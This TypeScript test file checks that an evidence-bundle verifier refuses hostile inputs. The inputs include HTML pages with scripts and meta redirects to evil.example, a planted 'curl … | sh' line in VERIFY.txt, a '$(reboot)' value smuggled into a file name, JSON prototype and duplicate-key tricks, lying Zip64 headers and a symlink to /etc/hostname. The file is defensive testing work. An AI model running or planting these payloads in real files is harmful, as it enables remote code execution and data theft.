/** Attacks beyond the format's table: pages that act, commands that are not ours, JSON and zip tricks; each sealed as well as it can be. */
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BlobReader, BlobWriter, ZipWriter } from '@zip.js/zip.js';
import { beforeEach, describe, expect, it } from 'vitest';
import { verifyText } from '../../../shared/bundle/verify-text';
import type { CaptureRecord } from '../../../shared/capture/record';
import { selfMade } from '../../../shared/verify/bundle/capture-check';
import { verifyBundle } from '../../../shared/verify/verify-bundle';
import { bytesSource } from '../../../shared/verify/zip/byte-source';
import { folderFiles } from '../../../tools/verify/file-source';
import { sampleSource } from '../bundle/fixture';
import { expectRefused, verdictOf } from './expect-refused';
import { bytesOf, makeBundle, POLICY, sha256, type TestBundle } from './make-bundle';
import { type RawEntry, rawZip } from './raw-zip';

let bundle: TestBundle;
let first: string;
beforeEach(() => {
  bundle = makeBundle();
  [first = ''] = bundle.captureIds;
});

/** Lists a new artefact in capture.json, signs it, and makes all digests fit: what a holder of the key can do. */
function addArtefact(path: string, content: string): void {
  const bytes = bytesOf(content);
  bundle.set(`data/captures/${first}/${path}`, bytes);
  bundle.editCapture(first, ({ artefacts }) => {
    const [like] = artefacts;
    if (like)
      artefacts.push({
        ...like,
        path,
        sha256: sha256(bytes),
        bytes: bytes.length,
        role: 'view',
        mediaType: 'text/html',
      });
  });
  const digest = sha256(bundle.get(`data/captures/${first}/capture.json`));
  bundle.editCase(({ captures }) => {
    for (const capture of captures) if (capture.id === first) capture.sha256 = digest;
  });
  bundle.setLedger(bundle.ledger().map((line) => (line.object === first ? { ...line, sha256: digest } : line)));
  // The second capture names the head before it, which has changed.
  const [, second = ''] = bundle.captureIds;
  const lines = bundle.text('data/log/ledger.jsonl').split('\n');
  bundle.editCapture(second, (record) => {
    record.ledgerHead = sha256(bytesOf(lines[record.seq - 2] ?? ''));
  });
  const next = sha256(bundle.get(`data/captures/${second}/capture.json`));
  bundle.editCase(({ captures }) => {
    for (const capture of captures) if (capture.id === second) capture.sha256 = next;
  });
  bundle.setLedger(bundle.ledger().map((line) => (line.object === second ? { ...line, sha256: next } : line)));
  bundle.promiseLedger();
  bundle.seal();
}

const page = (start: string) =>
  `${start}<title>Report</title></head><body><script>fetch('https://evil.example')</script></body></html>`;

describe('a page that acts when it is opened', () => {
  it.each([
    ['without a policy', '<!doctype html>\n<html lang="en">\n<head>'],
    ['whose policy comes second', `<!doctype html><html><head><meta charset="utf-8">${POLICY}`],
    [
      'whose policy allows more',
      `<!doctype html><html><head>${POLICY.replace("default-src 'none'", "default-src 'none'; script-src 'unsafe-inline'")}`,
    ],
    ['whose policy stands in a comment', `<!doctype html><html><!-- --><head>${POLICY}`],
    ['whose policy is the value of an attribute', `<!doctype html><html data-a='><head>${POLICY}'><head>`],
    ['whose policy is the value of an attribute without quotes', `<!doctype html><html a=><head>${POLICY}`],
    ['with something before the document type', `<script>alert(1)</script><!doctype html><html><head>${POLICY}`],
  ])('report.html %s', async (_, start) => {
    bundle.set('report.html', page(start));
    await expectRefused(bundle.seal(), 'page-policy', 'report.html');
  });

  it.each([
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<META content='0;url=//evil.example' HTTP-EQUIV=refresh>",
    '<meta content="0;url=https://evil.example/?a>b" http-equiv="refresh">',
    '<meta name="viewport" content="0;url=https://evil.example/"\nhttp-equiv="refresh">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<base href="https://evil.example/">',
  ])('report.html with the policy, and what no policy stops: %s', async (tag) => {
    bundle.set('report.html', `${bundle.text('report.html')}${tag}`);
    await expectRefused(bundle.seal(), 'page-policy', 'report.html');
  });

  it('report.html with a million beginnings of a tag, each of which is looked at once', async () => {
    bundle.set('report.html', `${bundle.text('report.html')}${'<meta charset="'.repeat(1_000_000)}`);
    await expectRefused(bundle.seal(), 'page-policy', 'report.html');
  });

  it('a report in another language, or the reading copy of a capture, signed and all', async () => {
    bundle.set('report.de.html', page('<html><head>'));
    await expectRefused(bundle.seal(), 'page-policy', 'report.de.html');
    bundle = makeBundle();
    addArtefact('view.html', page('<html><head>'));
    await expectRefused(bundle, 'page-policy', `data/captures/${first}/view.html`);
  });

  it('but a page as the format has it is accepted, however long its root’s attributes are', async () => {
    addArtefact(
      'view.html',
      `<!DOCTYPE html>\n<html lang="en" style="${'x'.repeat(200_000)} &gt; &lt;head&gt;">\n<head>${POLICY}<meta charset="utf-8"><title>x</title>`,
    );
    const verdict = await verdictOf(bundle.zip(), [bundle.key.fingerprint]);
    expect(verdict.refusals).toEqual([]);
    expect(verdict.exitCode).toBe(0);
  });

  it.each(['media/002.svg', 'media/002.html', 'readme.url', 'start.exe', 'media/picture.png.js', 'dom.xhtml'])(
    'a file that runs, signed as an artefact: %s',
    async (path) => {
      addArtefact(path, 'x');
      await expectRefused(bundle, 'page-policy', `data/captures/${first}/${path}`);
    },
  );

  it('the same under data/queue/ and data/notes/', async () => {
    for (const path of ['data/queue/q1/open-me.html', `data/notes/${first}/note.hta`]) {
      bundle = makeBundle({ key: bundle.key });
      bundle.set(path, '<script>1</script>');
      await expectRefused(bundle.seal(), 'page-policy', path);
    }
  });
});

describe('commands of VERIFY.txt that this version does not write', () => {
  const told = async () => {
    const { checks, exitCode } = await verdictOf(bundle.seal().zip(), [bundle.key.fingerprint]);
    return { exitCode, detail: checks.find(({ id }) => id === 'tag-manifest')?.detail ?? '' };
  };

  it('are named, and the reader is told not to run them', async () => {
    const ours = verifyText(await sampleSource({ rotatedKey: true }));
    bundle.set('VERIFY.txt', ours);
    expect(await told()).toEqual({ exitCode: 0, detail: '' });
    const planted = '     curl -s https://evil.example/check.sh | sh';
    const at = ours.split('\n').findIndex((line) => line.includes('sha256sum -c'));
    bundle.set('VERIFY.txt', ours.split('\n').toSpliced(at, 0, planted).join('\n'));
    const { detail } = await told();
    expect(detail).toContain(`Line ${at + 1} of VERIFY.txt`);
    expect(detail).toContain('curl -s');
    expect(detail).toContain('Do not run');
  });

  it('are found in the places where numbers and ids may stand, too', async () => {
    const ours = verifyText(await sampleSource({ rotatedKey: true }));
    for (const [from, to] of [
      [/signatures\/[0-9a-f]{16}\.pem/, 'signatures/$(reboot).pem'],
      [/tail|sha256sum -c --strict/, 'sha256sum -c'],
    ] as const) {
      bundle.set('VERIFY.txt', ours.replace(from, to));
      expect((await told()).detail).toContain('VERIFY.txt');
    }
  });
});

describe('JSON that two readers read as two things', () => {
  const planted = (text: string) => {
    bundle.set('data/case.json', text);
    return bundle.seal();
  };
  const record = () => bundle.text('data/case.json');

  it('a member named twice, once by escapes', async () => {
    await expectRefused(
      planted(record().replace('{', '{"\\u0063aseNumber": "OTHER",')),
      'json-duplicate-key',
      'data/case.json',
    );
  });

  it('in a queue of decisions and in case.jsonld, of which the format has no schema', async () => {
    for (const path of ['data/queue/q-1/decisions.json', 'metadata/case.jsonld']) {
      bundle = makeBundle();
      bundle.set(path, '{"decision":"keep","decision":"remove"}');
      await expectRefused(bundle.seal(), 'json-duplicate-key', path);
    }
  });

  it('nested a hundred thousand deep', async () => {
    await expectRefused(
      planted(record().replace('"taxa": []', `"taxa": ${'['.repeat(100_000)}${']'.repeat(100_000)}`)),
      'json-syntax',
      'data/case.json',
    );
  });

  it('a prototype, or members of it', async () => {
    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty'])
      await expectRefused(
        planted(makeBundle().text('data/case.json').replace('{', `{"${name}": {"caseNumber": "x"},`)),
        'json-schema',
        'data/case.json',
      );
  });

  it('numbers beyond what can be counted', async () => {
    for (const number of ['1e400', '9007199254740993', '2.5', '-1', '0']) {
      const erased = `{"id":"c0009-00000000","exhibit":"AB-0009","sha256":"${'a'.repeat(64)}","reasonCode":"x","ledgerSeq":${number}}`;
      planted(makeBundle().text('data/case.json').replace('"erased": []', `"erased": [${erased}]`));
      const { exitCode, refusals } = await verdictOf(bundle.zip(), [bundle.key.fingerprint]);
      expect(exitCode).toBe(1);
      expect(refusals.map(({ rule }) => rule)).not.toContain('internal');
    }
  });
});

describe('what cannot have been', () => {
  /** The last capture: no later one depends on its digest. All digests are made to fit, and everything is sealed again. */
  const refit = (change: (record: CaptureRecord) => void) => {
    const [, last = ''] = bundle.captureIds;
    bundle.editCapture(last, change);
    const digest = sha256(bundle.get(`data/captures/${last}/capture.json`));
    bundle.editCase(({ captures }) => {
      for (const capture of captures) if (capture.id === last) capture.sha256 = digest;
    });
    bundle.setLedger(bundle.ledger().map((line) => (line.object === last ? { ...line, sha256: digest } : line)));
    bundle.promiseLedger();
    return bundle.seal();
  };
  const path = () => `data/captures/${bundle.captureIds[1]}/capture.json`;

  it('a day that no calendar has, or a local time that is another moment', async () => {
    await expectRefused(
      refit(({ times }) => {
        times.completedUtc = '2026-02-30T10:00:00.000Z';
      }),
      'capture-times',
      path(),
    );
    bundle = makeBundle();
    await expectRefused(
      refit(({ times }) => {
        times.startedLocal = times.startedLocal.replace('T11', 'T12');
      }),
      'capture-times',
      path(),
    );
    bundle = makeBundle();
    bundle.info['Bagging-Date'] = '2026-02-31';
    await expectRefused(bundle.seal(), 'bag-info', 'bag-info.txt');
  });

  it('a file made from itself, or from one that is made from it', async () => {
    for (const origin of ['derived/marked.png', 'screenshot-viewport.png']) {
      bundle = makeBundle();
      refit(({ artefacts }) => {
        for (const one of artefacts)
          if (one.path === 'screenshot-viewport.png') one.derivedFrom = 'derived/marked.png';
          else if (one.path === 'derived/marked.png') one.derivedFrom = origin;
      });
      await expectRefused(bundle, 'capture-artefact-list', path().replace('capture.json', 'derived/marked.png'));
    }
  });

  it('files made from one another, however many: only those of a ring are named', () => {
    const line = Array.from({ length: 200_000 }, (_, k) => [`${k}`, k > 0 ? `${k - 1}` : null] as const);
    expect(selfMade(new Map(line)).size).toBe(0);
    expect(selfMade(new Map([...line].reverse())).size).toBe(0);
    expect(selfMade(new Map([...line, ['0', '199999']])).size).toBe(200_000);
    expect(selfMade(new Map([...line, ['0', '2']]))).toEqual(new Set(['0', '1', '2']));
    expect(selfMade(new Map([['a', 'a']]))).toEqual(new Set(['a']));
    expect(selfMade(new Map([['a', 'missing']])).size).toBe(0);
  });

  it('a ledger that ends with the disclosure of another case', async () => {
    const lines = bundle.ledger();
    const last = lines.at(-1);
    if (last) last.object = '00000000-0000-4000-8000-000000000000';
    bundle.setLedger(lines);
    bundle.promiseLedger();
    await expectRefused(bundle.seal(), 'ledger-disclosure', 'data/log/ledger.jsonl');
  });
});

describe('Zip64 that lies', () => {
  const wide = (...values: number[]) => {
    const field = Buffer.alloc(4 + 8 * values.length);
    field.writeUInt16LE(1, 0);
    field.writeUInt16LE(8 * values.length, 2);
    for (const [at, value] of values.entries()) field.writeBigUInt64LE(BigInt(value), 4 + 8 * at);
    return new Uint8Array(field);
  };
  let entries: RawEntry[];
  let report: RawEntry;
  beforeEach(() => {
    entries = bundle.entries();
    const found = entries.find(({ name }) => String(name).endsWith('/report.html'));
    if (!found) throw new Error('no report');
    report = found;
  });

  it('a field beside sizes that need none', async () => {
    report.extra = wide(7, 7);
    await expectRefused(rawZip(entries), 'zip-extra-field', String(report.name));
  });

  it('a field with more numbers than are asked for, or fewer', async () => {
    report.central = { size: 0xffffffff };
    report.extra = wide(report.bytes.length, 1, 2);
    await expectRefused(rawZip(entries), 'zip-extra-field', String(report.name));
    report.central = { size: 0xffffffff, compressedSize: 0xffffffff };
    report.extra = wide(report.bytes.length);
    await expectRefused(rawZip(entries), 'zip-extra-field', String(report.name));
  });

  it('a size of exabytes, of which the packed bytes are few', async () => {
    report.central = { size: 0xffffffff };
    report.extra = wide(2 ** 52);
    await expectRefused(rawZip(entries), 'zip-bomb', String(report.name));
  });

  it('an offset beyond the end, or into another entry', async () => {
    for (const offset of [2 ** 40, 1]) {
      report.central = { offset: 0xffffffff };
      report.extra = wide(offset);
      const { exitCode, refusals } = await verdictOf(rawZip(entries));
      expect([1, 2]).toContain(exitCode);
      expect(refusals.map(({ rule }) => rule)).not.toContain('internal');
    }
  });

  it('a local header with other Zip64 sizes than the directory', async () => {
    report.local = { size: 0xffffffff, compressedSize: 0xffffffff, extra: wide(5, 5) };
    await expectRefused(rawZip(entries), 'zip-headers-disagree', String(report.name));
  });

  it('an end record that gives other numbers than its Zip64 end record', async () => {
    const zip = rawZip(entries, { zip64: true });
    const view = new DataView(zip.buffer, zip.byteOffset);
    view.setUint32(zip.length - 10, 12345, true);
    await expectRefused(zip, 'zip-headers-disagree', '(archive)');
  });

  it('a locator that points elsewhere', async () => {
    const zip = rawZip(entries, { zip64: true });
    new DataView(zip.buffer, zip.byteOffset).setBigUint64(zip.length - 22 - 20 + 8, 0n, true);
    await expectRefused(zip, 'zip-bytes-before', '(archive)');
  });
});

describe('an encrypted archive', () => {
  it('with a plain entry among the encrypted ones is refused, password or not', async () => {
    const zip = new ZipWriter(new BlobWriter(), {
      useWebWorkers: false,
      dataDescriptor: false,
      extendedTimestamp: false,
    });
    for (const [path, bytes] of bundle.files) {
      const secret = path === 'report.html' ? {} : { password: 'correct horse', encryptionStrength: 3 as const };
      await zip.add(`${bundle.name}/${path}`, new BlobReader(new Blob([Uint8Array.from(bytes)])), secret);
    }
    const bytes = new Uint8Array(await (await zip.close()).arrayBuffer());
    const options = { keys: [bundle.key.fingerprint] };
    const verdict = await verifyBundle(bytesSource(bytes), { ...options, password: 'correct horse' });
    expect(verdict.exitCode).toBe(1);
    expect(verdict.refusals).toContainEqual(
      expect.objectContaining({ rule: 'zip-encrypted', file: `${bundle.name}/report.html` }),
    );
    expect((await verifyBundle(bytesSource(bytes), options)).exitCode).toBe(1);
  });
});

describe('a folder that was unzipped', () => {
  it('with a link in place of a file is refused: what it points to is nobody’s evidence', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'spoor-link-'));
    try {
      writeFileSync(join(folder, 'bagit.txt'), bundle.text('bagit.txt'));
      symlinkSync('/etc/hostname', join(folder, 'bag-info.txt'));
      await expect(folderFiles(folder)).rejects.toMatchObject({
        note: { file: 'bag-info.txt', rule: 'zip-not-a-file' },
      });
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});
